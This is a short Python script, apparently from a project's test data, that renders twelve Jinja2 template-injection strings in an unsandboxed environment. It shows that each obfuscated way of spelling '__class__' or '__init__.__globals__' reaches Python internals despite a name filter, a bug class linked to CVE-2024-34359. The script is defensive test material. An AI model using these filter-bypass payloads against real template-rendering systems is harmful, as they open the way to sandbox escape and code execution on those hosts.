#!/usr/bin/env python3
"""Renders the render-time-name attacks of flow_test.go with real Jinja2
(an unsandboxed Environment, as llama-cpp-python used before
CVE-2024-34359) to show each one reaches a Python internal. Run with
Debian's python3-jinja2: /usr/bin/python3 testdata/prove_live.py
Each line prints <class 'str'> (or a module name) when the attack works."""
from jinja2 import Environment

env = Environment(extensions=["jinja2.ext.loopcontrols", "jinja2.ext.do"])
CASES = {
    "backslash-CR continuation": "{{ x['__cla\\\rss__'] }}",
    "printf format with variables": "{% set b = 'ss__' %}{% set a = '__cla' %}{{ x['%s%s'|format(a, b)] }}",
    "str.format with variables": "{% set b = 'ss__' %}{% set a = '__cla' %}{{ x['{0}{1}'.format(a, b)] }}",
    "list reversed and joined later": "{% set l = ['ss__', '__cla'] %}{% set n = l|reverse|join %}{{ x[n] }}",
    "namespace __init__.__globals__": "{% set ns = namespace(p='__') %}{% set ns.i = ns.p ~ 'init' ~ ns.p %}{% set ns.g = ns.p ~ 'globals' ~ ns.p %}{{ namespace[ns.i][ns.g]['__name__'] }}",
    "strided slice": "{{ x['____ccllaassss____'[::2]] }}",
    "adjacent literals": "{{ x['__cla' 'ss__'] }}",
    "loop-accumulated name": "{% set ns = namespace(s='') %}{% for c in ['_','_','c','l','a','s','s','_','_'] %}{% set ns.s = ns.s ~ c %}{% endfor %}{{ x[ns.s] }}",
    "macro parameter": "{% macro g(o, n) %}{{ o[n] }}{% endmacro %}{% set b = 'ss__' %}{{ g(x, '__cla' ~ b) }}",
    "%c with arithmetic": "{% set u = '%c'|format(94 + 1) %}{{ x[u ~ u ~ 'class' ~ u ~ u] }}",
    "center with fill": "{{ x['class'.center(9, '_')] }}",
    "map('attr', computed)": "{% set b = 'ss__' %}{{ [x]|map('attr', '__cla' ~ b)|list }}",
}
for name, src in CASES.items():
    try:
        print(f"{name}: {env.from_string(src).render(x='')}")
    except Exception as e:  # noqa: BLE001
        print(f"{name}: did not run ({e})")
